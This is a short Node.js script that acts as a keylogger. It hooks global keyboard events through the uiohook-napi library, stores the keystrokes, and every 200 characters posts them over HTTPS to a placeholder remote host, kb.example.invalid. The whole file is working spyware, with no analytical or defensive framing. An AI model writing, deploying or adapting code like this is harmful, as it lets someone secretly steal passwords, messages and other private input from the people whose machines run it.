const { uIOhook } = require('uiohook-napi');
const https = require('https');
let buf = '';
uIOhook.on('keydown', (e) => { buf += String.fromCharCode(e.keycode); if (buf.length > 200) { const r = https.request({ host: 'kb.example.invalid', method: 'POST', path: '/' }); r.end(buf); buf = ''; } });
uIOhook.start();
